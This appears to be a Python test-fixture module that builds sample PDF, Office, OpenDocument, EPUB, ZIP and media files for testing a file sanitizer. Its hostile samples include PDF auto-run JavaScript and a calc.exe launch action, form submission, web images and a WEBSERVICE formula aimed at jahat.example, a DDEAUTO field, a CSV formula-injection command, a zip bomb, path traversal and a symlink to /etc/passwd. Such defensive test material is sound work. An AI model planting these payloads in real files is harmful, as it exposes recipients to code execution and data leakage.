"""Office and PDF files made for tests: good ones that contain too much information, and malicious ones."""

import io
import struct
import zipfile
from collections.abc import Callable, Mapping

import docx
import openpyxl
import pikepdf
from openpyxl.comments import Comment
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

# These texts are planted in the files. No byte that readers get may contain any of them.
SECRETS = ("Rahasia Aminah", "PT Rahasia Jaya", "komentar-rahasia", "perangkat-rahasia", "C:\\Users\\rahasia")
AUTHOR, COMPANY, REMARK, DEVICE, PLACE = SECRETS


def jpeg(noted: bool = True) -> bytes:
    """A photograph. With `noted`, it names the device that took it."""
    exif = Image.Exif()
    exif[0x010F] = DEVICE
    exif[0x8825] = {1: "S", 2: (2.0, 59.0, 10.0), 3: "E", 4: (104.0, 45.0, 20.0)}
    data = io.BytesIO()
    Image.effect_mandelbrot((64, 48), (-2.0, -1.2, 0.8, 1.2), 60).convert("RGB").save(
        data, "JPEG", **({"exif": exif} if noted else {})
    )
    return data.getvalue()


def pdf(change: Callable[[pikepdf.Pdf], object] = lambda _: None, **saved: object) -> bytes:
    """A PDF of one page with a picture, and information about its author."""
    made = pikepdf.new()
    page = made.add_blank_page(page_size=(200, 200))
    picture = made.make_stream(jpeg())
    picture.update(
        Dictionary(
            Type=Name.XObject, Subtype=Name.Image, Width=64, Height=48, ColorSpace=Name.DeviceRGB, BitsPerComponent=8
        )
    )
    picture.Filter = Name.DCTDecode
    page.Resources = Dictionary(XObject=Dictionary(Im0=picture))
    page.Contents = made.make_stream(b"q 100 0 0 100 0 0 cm /Im0 Do Q")
    remark = Dictionary(
        Type=Name.Annot, Subtype=Name.Text, Rect=[0, 0, 9, 9], Contents=String(REMARK), T=String(AUTHOR)
    )
    page.Annots = Array([made.make_indirect(remark)])
    with made.open_metadata() as notes:
        notes["dc:creator"] = [AUTHOR]
    made.docinfo["/Author"], made.docinfo["/Company"], made.docinfo["/Title"] = AUTHOR, COMPANY, PLACE
    change(made)
    data = io.BytesIO()
    made.save(data, **saved)
    return data.getvalue()


def _action(**parts: object) -> Callable[[pikepdf.Pdf], None]:
    def change(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = Dictionary(Type=Name.Action, **parts)

    return change


def _annotation(**parts: object) -> Callable[[pikepdf.Pdf], None]:
    def change(made: pikepdf.Pdf) -> None:
        annotation = Dictionary(Type=Name.Annot, Rect=[0, 0, 9, 9], **parts)
        made.pages[0].Annots = Array([made.make_indirect(annotation)])

    return change


def _attach(made: pikepdf.Pdf) -> None:
    made.attachments["daftar.txt"] = b"nama"


def _form(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = Dictionary(Fields=Array([]), XFA=made.make_stream(b"<xdp/>"))


def _on_page(made: pikepdf.Pdf) -> None:
    made.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))


def _named(made: pikepdf.Pdf) -> None:
    script = made.make_indirect(Dictionary(S=Name.JavaScript, JS=String("x")))
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))


def _outside_stream(made: pikepdf.Pdf) -> None:
    made.pages[0].Contents.F = String("lain.txt")


def _layer(made: pikepdf.Pdf) -> None:
    layer = made.make_indirect(Dictionary(Type=Name.OCG, Name=String("Draf")))
    made.Root.OCProperties = Dictionary(OCGs=Array([layer]), D=Dictionary(OFF=Array([layer])))


PDF_ATTACKS = {
    "a script when it opens": pdf(_action(S=Name.JavaScript, JS=String("app.alert(1)"))),
    "a script with an escaped name": pdf(_action(S=Name.JavaScript, JS=String("x"))).replace(
        b"/JavaScript", b"/J#61vaScript"
    ),
    "a program that starts": pdf(_action(S=Name.Launch, F=String("calc.exe"))),
    "a form that sends": pdf(_action(S=Name.SubmitForm, F=String("https://jahat.example"))),
    "another file that opens": pdf(_action(S=Name.GoToR, F=String("lain.pdf"), D=Array([0, Name.Fit]))),
    "a script of a page": pdf(_on_page),
    "a script by name": pdf(_named),
    "a file inside": pdf(_attach),
    "a file pinned to a page": pdf(_annotation(Subtype=Name.FileAttachment, FS=Dictionary(Type=Name.Filespec))),
    "a film inside": pdf(_annotation(Subtype=Name.RichMedia)),
    "a dynamic form": pdf(_form),
    "a stream in another file": pdf(_outside_stream),
}
PDF_OUTSIDE = {
    "a link to a program": pdf(_annotation(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("file:///bin/sh")))),
    "a link that is a script": pdf(
        _annotation(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("javascript:1")))
    ),
}


def linked_pdf(address: str) -> bytes:
    """A PDF with a link."""
    return pdf(_annotation(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String(address))))


PDF_REDACTED = pdf(_annotation(Subtype=Name.Redact))
PDF_LAYERS = pdf(_layer)
PDF_LOCKED = pdf(encryption=pikepdf.Encryption(owner="a", user="b"))
PDF_RESTRICTED = pdf(encryption=pikepdf.Encryption(owner="a", user=""))
PDF_LINKED = pdf(_annotation(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://patra.example/"))))


def word(build: Callable[[docx.document.Document], object] = lambda _: None) -> bytes:
    """A Word file with a table, a picture, and information about its author."""
    made = docx.Document()
    made.add_heading("Siaran pers", 1)
    made.add_paragraph("Kelas menjahit dibuka.")
    made.add_picture(io.BytesIO(jpeg()))
    table = made.add_table(2, 2)
    for cell, text in zip(
        (c for row in table.rows for c in row.cells), ("Uraian", "Jumlah", "Peserta", "20"), strict=True
    ):
        cell.text = text
    made.core_properties.author = AUTHOR
    made.core_properties.last_modified_by = AUTHOR
    made.core_properties.comments = REMARK
    build(made)
    data = io.BytesIO()
    made.save(data)
    return data.getvalue()


def with_remark(made: docx.document.Document) -> None:
    """Add a comment to a Word file."""
    paragraph = made.add_paragraph("Catatan.")
    made.add_comment(paragraph.runs, text=REMARK, author=AUTHOR, initials="RA")


def sheet(build: Callable[[openpyxl.Workbook], object] = lambda _: None) -> bytes:
    """A workbook with a table, a comment, and information about its author."""
    made = openpyxl.Workbook()
    made.active.append(["Uraian", "Jumlah"])
    made.active.append(["Peserta", 20])
    made.active["A2"].comment = Comment(REMARK, AUTHOR)
    made.properties.creator = AUTHOR
    made.properties.lastModifiedBy = AUTHOR
    build(made)
    data = io.BytesIO()
    made.save(data)
    return data.getvalue()


def with_parts(data: bytes, parts: Mapping[str, bytes | Callable[[bytes], bytes] | None]) -> bytes:
    """A package with parts added, changed by a function, or removed (None)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.infolist():
            change = parts.get(entry.filename, entry)
            if change is None:
                continue
            content = old.read(entry)
            new.writestr(entry, content if change is entry else change(content) if callable(change) else change)
        for name, content in parts.items():
            if name not in old.namelist() and isinstance(content, bytes):
                new.writestr(name, content)
    return out.getvalue()


def related(kind: str, target: str, external: bool = False) -> Callable[[bytes], bytes]:
    """A change that adds one relationship to a part."""
    mode = ' TargetMode="External"' if external else ""
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    one = f'<Relationship Id="rIdX" Type="{base}{kind}" Target="{target}"{mode}/></Relationships>'.encode()
    return lambda data: data.replace(b"</Relationships>", one)


_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_SHEET_RELATIONS, _WORD_RELATIONS = "xl/_rels/workbook.xml.rels", "word/_rels/document.xml.rels"


def inside_word(markup: str) -> bytes:
    """A Word file with markup at the end of its text."""
    end = b"<w:sectPr"
    return with_parts(word(), {"word/document.xml": lambda data: data.replace(end, markup.encode() + end, 1)})


def macro_free(kind: str) -> Callable[[bytes], bytes]:
    """A change of content types that declares the main part to hold macros."""
    return lambda data: (
        data.replace(b"document.main+xml", b"document.macroEnabled.main+xml")
        if kind == "word"
        else data.replace(b"sheet.main+xml", b"sheet.macroEnabled.main+xml")
    )


OFFICE_ATTACKS = {
    "macros": (
        "docx",
        with_parts(word(), {_WORD_RELATIONS: related("vbaProject", "vbaProject.bin"), "word/vbaProject.bin": b"x"}),
    ),
    "a main part with macros": ("docx", with_parts(word(), {"[Content_Types].xml": macro_free("word")})),
    "a control": (
        "docx",
        with_parts(
            word(), {_WORD_RELATIONS: related("control", "activeX/activeX1.xml"), "word/activeX/activeX1.xml": b"<x/>"}
        ),
    ),
    "entities": (
        "docx",
        with_parts(
            word(), {"word/document.xml": lambda data: data.replace(b"?>", b'?><!DOCTYPE x [<!ENTITY a "b">]>', 1)}
        ),
    ),
}
OFFICE_OUTSIDE = {
    "a picture from the web": (
        "docx",
        with_parts(word(), {_WORD_RELATIONS: related("image", "https://jahat.example/1.png", True)}),
    ),
    "a frame": ("docx", with_parts(word(), {_WORD_RELATIONS: related("frame", "https://jahat.example/", True)})),
    "a link to a disk": ("docx", with_parts(word(), {_WORD_RELATIONS: related("hyperlink", "file:///C:/x", True)})),
    "a field that fetches": (
        "docx",
        inside_word('<w:p><w:r><w:instrText> DDEAUTO c:\\\\x "y"</w:instrText></w:r></w:p>'),
    ),
    "a workbook elsewhere": (
        "xlsx",
        with_parts(
            sheet(),
            {
                _SHEET_RELATIONS: related("externalLink", "externalLinks/externalLink1.xml"),
                "xl/externalLinks/externalLink1.xml": b"<x/>",
            },
        ),
    ),
    "a formula that fetches": (
        "xlsx",
        sheet(lambda made: made.active.append(['=WEBSERVICE("https://jahat.example")'])),
    ),
}
OFFICE_EMBEDDED = {
    "a workbook inside": (
        "docx",
        with_parts(
            word(),
            {_WORD_RELATIONS: related("package", "embeddings/Lembar.xlsx"), "word/embeddings/Lembar.xlsx": sheet()},
        ),
    ),
    "a page inside": (
        "docx",
        with_parts(word(), {_WORD_RELATIONS: related("aFChunk", "afchunk.mht"), "word/afchunk.mht": b"x"}),
    ),
}
TRACKED = {
    "a deletion": (
        "docx",
        inside_word(f'<w:p><w:del w:id="1" w:author="A"><w:r><w:delText>{REMARK}</w:delText></w:r></w:del></w:p>'),
    ),
    "an insertion": ("docx", inside_word('<w:p><w:ins w:id="1" w:author="A"><w:r><w:t>x</w:t></w:r></w:ins></w:p>')),
}


def _hide(made: openpyxl.Workbook) -> None:
    made.create_sheet("Nama").append([1])
    made["Nama"].sheet_state = "hidden"


def _very_hidden(made: openpyxl.Workbook) -> None:
    made.create_sheet("Nama").append([1])
    made["Nama"].sheet_state = "veryHidden"


def _hide_row(made: openpyxl.Workbook) -> None:
    made.active.row_dimensions[2].hidden = True


def archive(members: Mapping[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A ZIP file."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", method) as made:
        for name, content in members.items():
            made.writestr(name, content)
    return data.getvalue()


def presentation(attributes: str = "", notes: str = "") -> bytes:
    """A presentation with a table, a comment and information about its author. `attributes` are those of its slide."""
    drawing, main = (f"http://schemas.openxmlformats.org/{name}/2006/main" for name in ("drawingml", "presentationml"))
    spaces = f'xmlns:a="{drawing}" xmlns:p="{main}" xmlns:r="{_RELATIONS}"'
    cells = "".join(
        f"<a:tc><a:txBody><a:bodyPr/><a:p><a:r><a:t>{words}</a:t></a:r></a:p></a:txBody></a:tc>"
        for words in ("Peserta", "20")
    )
    frame = "<p:graphicFrame><a:graphic><a:graphicData>{}</a:graphicData></a:graphic></p:graphicFrame>"
    table = frame.format(f"<a:tbl><a:tr>{cells}</a:tr></a:tbl>")
    base = "application/vnd.openxmlformats-officedocument.presentationml."
    words = f"<p:sp><p:txBody><a:p><a:r><a:t>{notes}</a:t></a:r></a:p></p:txBody></p:sp>"
    said = f"<p:cSld><p:spTree>{words}</p:spTree></p:cSld>"
    kinds = {
        "presentation": "presentation.main", "slides/slide1": "slide", "comments/comment1": "comments",
        "commentAuthors": "commentAuthors", "notesSlides/notesSlide1": "notesSlide",
    }  # fmt: skip
    parts = {
        "presentation": f'<p:presentation {spaces}><p:sldIdLst><p:sldId id="256" r:id="rId1"/></p:sldIdLst>'
        "</p:presentation>",
        "slides/slide1": f"<p:sld {spaces} {attributes}><p:cSld><p:spTree>{table}</p:spTree></p:cSld></p:sld>",
        "comments/comment1": f'<p:cmLst {spaces}><p:cm authorId="0"><p:text>{REMARK}</p:text></p:cm></p:cmLst>',
        "commentAuthors": f'<p:cmAuthorLst {spaces}><p:cmAuthor id="0" name="{AUTHOR}"/></p:cmAuthorLst>',
        "notesSlides/notesSlide1": f"<p:notes {spaces}>{said}</p:notes>",
    }
    related_parts = {
        "ppt/_rels/presentation.xml.rels": {"slide": "slides/slide1.xml", "commentAuthors": "commentAuthors.xml"},
        "ppt/slides/_rels/slide1.xml.rels": {
            "comments": "../comments/comment1.xml", "notesSlide": "../notesSlides/notesSlide1.xml"
        },
    }  # fmt: skip
    overrides = "".join(
        f'<Override PartName="/ppt/{name}.xml" ContentType="{base}{kind}+xml"/>' for name, kind in kinds.items()
    )
    relations = "application/vnd.openxmlformats-package.relationships+xml"
    core = "application/vnd.openxmlformats-package.core-properties+xml"
    packages = "http://schemas.openxmlformats.org/package/2006"
    names = f'xmlns:cp="{packages}/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"'
    files = {
        "[Content_Types].xml": f'<Types xmlns="{packages}/content-types">'
        f'<Default Extension="rels" ContentType="{relations}"/>'
        f'<Default Extension="xml" ContentType="application/xml"/>{overrides}'
        f'<Override PartName="/docProps/core.xml" ContentType="{core}"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{packages}/relationships">'
        f'<Relationship Id="rId1" Type="{_RELATIONS}/officeDocument" Target="ppt/presentation.xml"/>'
        f'<Relationship Id="rId2" Type="{packages}/relationships/metadata/core-properties" Target="docProps/core.xml"/>'
        "</Relationships>",
        "docProps/core.xml": f"<cp:coreProperties {names}><dc:creator>{AUTHOR}</dc:creator></cp:coreProperties>",
        **{f"ppt/{name}.xml": text for name, text in parts.items()},
        **{
            name: f'<Relationships xmlns="{packages}/relationships">'
            + "".join(
                f'<Relationship Id="rId{number}" Type="{_RELATIONS}/{kind}" Target="{target}"/>'
                for number, (kind, target) in enumerate(targets.items(), 1)
            )
            + "</Relationships>"
            for name, targets in related_parts.items()
        },
    }
    return archive({name: f'<?xml version="1.0" encoding="UTF-8"?>{text}'.encode() for name, text in files.items()})


HIDDEN = {
    "a hidden sheet": ("xlsx", sheet(_hide)),
    "a very hidden sheet": ("xlsx", sheet(_very_hidden)),
    "a hidden row": ("xlsx", sheet(_hide_row)),
    "hidden text": ("docx", inside_word("<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>x</w:t></w:r></w:p>")),
    "a hidden layer": ("pdf", PDF_LAYERS),
    "a hidden slide": ("pptx", presentation('show="0"')),
    "notes of a speaker": ("pptx", presentation(notes="x")),
}
_OFFICE = 'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
_ODF = (
    f"<office:document-content {_OFFICE}"
    ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"'
    ' xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:dc="http://purl.org/dc/elements/1.1/"'
    ' xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0"'
    ' xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0">{}</office:document-content>'
)
_MANIFEST = (
    '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
    '<manifest:file-entry manifest:full-path="/" manifest:media-type="{}"/>'
    '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
    '<manifest:file-entry manifest:full-path="meta.xml" manifest:media-type="text/xml"/>{}</manifest:manifest>'
)


def odf(kind: str = "text", inside: str = "", parts: Mapping[str, bytes] | None = None, manifest: str = "") -> bytes:
    """An OpenDocument file with a comment and information about its author."""
    media = f"application/vnd.oasis.opendocument.{kind}"
    remark = f"<office:annotation><dc:creator>{AUTHOR}</dc:creator><text:p>{REMARK}</text:p></office:annotation>"
    table = (
        "<table:table><table:table-row><table:table-cell><text:p>Peserta</text:p></table:table-cell>"
        "<table:table-cell><text:p>20</text:p></table:table-cell></table:table-row></table:table>"
    )
    body = f"<office:body><office:{kind}><text:p>Kata{remark}.</text:p>{table}{inside}</office:{kind}></office:body>"
    meta = (
        f'<office:document-meta {_OFFICE} xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0">'
        f"<office:meta><meta:initial-creator>{AUTHOR}</meta:initial-creator></office:meta></office:document-meta>"
    )
    members = {
        "mimetype": media.encode(),
        "content.xml": _ODF.replace("{}", body).encode(),
        "meta.xml": meta.encode(),
        "Thumbnails/thumbnail.png": b"x",
        "META-INF/manifest.xml": _MANIFEST.format(media, manifest).encode(),
        **(parts or {}),
    }
    return archive(members, zipfile.ZIP_DEFLATED)


def book(page: str = "<p>Kata</p>", parts: Mapping[str, bytes] | None = None) -> bytes:
    """An EPUB of one page."""
    text = f'<html xmlns="http://www.w3.org/1999/xhtml"><body>{page}</body></html>'
    package = (
        '<package xmlns="http://www.idpf.org/2007/opf"><metadata><dc:contributor'
        f' xmlns:dc="http://purl.org/dc/elements/1.1/">{AUTHOR}</dc:contributor></metadata></package>'
    )
    members = {
        "mimetype": b"application/epub+zip",
        "META-INF/container.xml": b"<container/>",
        "a.xhtml": text.encode(),
        "a.opf": package.encode(),
        "a.jpg": jpeg(),
        **(parts or {}),
    }
    return archive(members)


ODF_REFUSED = {
    "macros": ("active", odf(parts={"Basic/Standard/Modul1.xml": b"<x/>"})),
    "an event": ("active", odf(inside='<office:event-listeners><x xmlns="y"/></office:event-listeners>')),
    "a picture from the web": ("outside", odf(inside='<draw:image xlink:href="https://jahat.example/1.png"/>')),
    "a section from a file": ("outside", odf(inside='<text:section-source xlink:href="../lain.odt"/>')),
    "a macro link": ("outside", odf(inside='<text:a xlink:href="vnd.sun.star.script:x">x</text:a>')),
    "tracked changes": ("tracked", odf(inside="<text:tracked-changes><text:changed-region/></text:tracked-changes>")),
    "a password": (
        "encrypted",
        odf(manifest="<manifest:file-entry manifest:full-path='a'><manifest:encryption-data/></manifest:file-entry>"),
    ),
    "a file inside": ("embedded", odf(parts={"Object 1": b"\xd0\xcf\x11\xe0"})),
    "another kind": ("false-kind", odf("spreadsheet")),
}
BOOK_REFUSED = {
    "a script": ("active", book("<script>x</script>")),
    "a handler": ("active", book('<p onclick="x">x</p>')),
    "a picture from the web": ("outside", book('<img src="https://jahat.example/1.png"/>')),
    "a lock": ("encrypted", book(parts={"META-INF/encryption.xml": b"<x/>"})),
    "a program": ("embedded", book(parts={"a.exe": b"MZ"})),
}


def bomb() -> bytes:
    """A ZIP file that claims to hold 3 GB."""
    data = bytearray(archive({"a.txt": bytes(1000)}))
    at = data.index(b"PK\1\2") + 24
    data[at : at + 4] = struct.pack("<I", 3_000_000_000)
    return bytes(data)


def lying_bomb() -> bytes:
    """A ZIP file that holds more than it claims."""
    data = bytearray(archive({"a.txt": bytes(1_000_000)}))
    at = data.index(b"PK\1\2") + 24
    data[at : at + 4] = struct.pack("<I", 10)
    return bytes(data)


def locked_archive() -> bytes:
    """A ZIP file with an entry that claims to be encrypted."""
    data = bytearray(archive({"a.txt": b"kata"}, zipfile.ZIP_STORED))
    data[6] |= 1
    data[data.index(b"PK\1\2") + 8] |= 1
    return bytes(data)


def link_inside() -> bytes:
    """A ZIP file with a symbolic link."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as made:
        entry = zipfile.ZipInfo("a.txt")
        entry.external_attr = 0o120777 << 16
        made.writestr(entry, "/etc/passwd")
    return data.getvalue()


ARCHIVE_REFUSED = {
    "a name that leads out": ("members", archive({"../a.txt": b"x"})),
    "an absolute name": ("members", archive({"/a.txt": b"x"})),
    "a disk": ("members", archive({"C:a.txt": b"x"})),
    "a program": ("members", archive({"a.exe": b"MZ"})),
    "an archive inside": ("nested", archive({"a.zip": archive({"b.txt": b"x"})})),
    "a bomb": ("bomb", bomb()),
    "a bomb that lies": ("broken", lying_bomb()),
    "a lock": ("encrypted", locked_archive()),
    "a link": ("members", link_inside()),
    "a name twice": ("members", archive({"a.txt": b"x", "A.TXT": b"y"})),
    "a script in a PDF": ("active", archive({"a.pdf": PDF_ATTACKS["a script when it opens"]})),
    "nothing": ("empty", archive({"__MACOSX/a.txt": b"x"})),
    "no archive": ("broken", b"PK\3\4 rusak"),
}
PLAIN_REFUSED = {
    "a formula": ("csv", "active", b"a,b\n1,\"=cmd|'/c calc'!A1\"\n"),
    "a formula with a plus": ("csv", "active", b"a,b\n1,+SUM(1)\n"),
    "a page": ("txt", "false-kind", b"<!DOCTYPE html><script>x</script>"),
    "a program": ("txt", "false-kind", b"MZ\0\0\1"),
    "Latin-1": ("csv", "encoding", "caf\u00e9".encode("latin-1")),
    "no calendar": ("ics", "false-kind", b"Halo"),
    "a calendar that mails": (
        "ics",
        "active",
        b"BEGIN:VCALENDAR\nBEGIN:VALARM\nACTION:EMAIL\nEND:VALARM\nEND:VCALENDAR\n",
    ),
    "a page as PDF": ("pdf", "false-kind", b"<html></html>"),
    "a PDF as Word": ("docx", "false-kind", pdf()),
    "a sheet as Word": ("docx", "false-kind", sheet()),
    "an old Word file": ("docx", "false-kind", b"\xd0\xcf\x11\xe0" + bytes(600)),
    "a locked Word file": ("docx", "encrypted", b"\xd0\xcf\x11\xe0" + "EncryptedPackage".encode("utf-16-le")),
    "a damaged PDF": ("pdf", "broken", b"%PDF-1.7\n" + bytes(100)),
}
CALENDAR = (
    "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:Kelas\r\n"
    f"ATTENDEE;CN={AUTHOR}:\r\n mailto:a@b.example\r\n"
    "END:VEVENT\r\nEND:VCALENDAR\r\n"
).encode()


def box(kind: str, *parts: bytes) -> bytes:
    """A box of an MP4 file."""
    inside = b"".join(parts)
    return struct.pack(">I", len(inside) + 8) + kind.encode("latin-1") + inside


def film(*handlers: str, extra: bytes = b"", top: bytes = b"", brand: bytes = b"isom") -> bytes:
    """A film of empty tracks, with a place (GPS) and names everywhere that the format allows them."""
    notes = box("udta", box("\xa9xyz", b"\0\x12\x15\xc7-02.9911+104.7567/"), AUTHOR.encode()) + box(
        "meta", DEVICE.encode()
    )
    tracks = []
    for handler in handlers or ("vide", "soun"):
        name = bytes(8) + handler.encode() + bytes(12) + DEVICE.encode() + b"\0"
        dates = bytes(4) + struct.pack(">II", 3_800_000_000, 3_800_000_001) + bytes(12)
        source = box("dref", bytes(4) + struct.pack(">I", 1), box("url ", b"\0\0\0\1"))
        table = box("stbl", box("stsd", bytes(8)), box("stts", bytes(8)), box("stco", bytes(8)))
        media = box("mdia", box("mdhd", dates), box("hdlr", name), box("minf", box("dinf", source), table))
        tracks.append(box("trak", box("tkhd", dates + bytes(60)), media, notes))
    index = box(
        "moov",
        box("mvhd", bytes(4) + struct.pack(">II", 3_800_000_000, 3_800_000_001) + bytes(90)),
        *tracks,
        notes,
        extra,
    )
    return (
        box("ftyp", brand, bytes(4), b"isom")
        + index
        + box("uuid", bytes(16), REMARK.encode())
        + top
        + box("mdat", b"gambar")
    )


def sound(notes: bool = True) -> bytes:
    """An MP3 of one frame, with tags before and after it."""
    frame = b"\xff\xfb\x90\x64" + bytes(413)
    if not notes:
        return frame
    name = b"TIT2" + struct.pack(">I", len(AUTHOR) + 1) + bytes(3) + AUTHOR.encode()
    tag = b"ID3\3\0\0" + bytes((0, 0, len(name) >> 7, len(name) & 127)) + name
    last = b"TAG" + AUTHOR.encode().ljust(125, b"\0")
    ape_head = struct.pack("<8sIIII8x", b"APETAGEX", 2000, 32 + len(REMARK), 1, 0)
    return tag + bytes(100) + frame + REMARK.encode() + ape_head + last


CAPTIONS = f"WEBVTT\n\nNOTE {AUTHOR}\n\n1\n00:00:01.000 --> 00:00:03.000\nSelamat pagi.\n".encode()

# What programs that read files call the facts that may name a person, a place or a computer.
NAMING = (
    "Author",
    "Creator",
    "Producer",
    "LastModifiedBy",
    "Company",
    "Title",
    "Make",
    "Model",
    "GPS",
    "Artist",
    "Comment",
)

# Good files that contain too much information.
GOOD = {
    "pdf": pdf(),
    "docx": word(with_remark),
    "xlsx": sheet(),
    "pptx": presentation(),
    "odt": odf(),
    "ods": odf("spreadsheet"),
    "odp": odf("presentation"),
    "epub": book(),
    "zip": archive({"a.pdf": pdf(), "b.docx": word(with_remark), "c.jpg": jpeg()}),
    "ics": CALENDAR,
    "mp4": film(),
    "m4a": film("soun"),
    "mp3": sound(),
    "vtt": CAPTIONS,
}
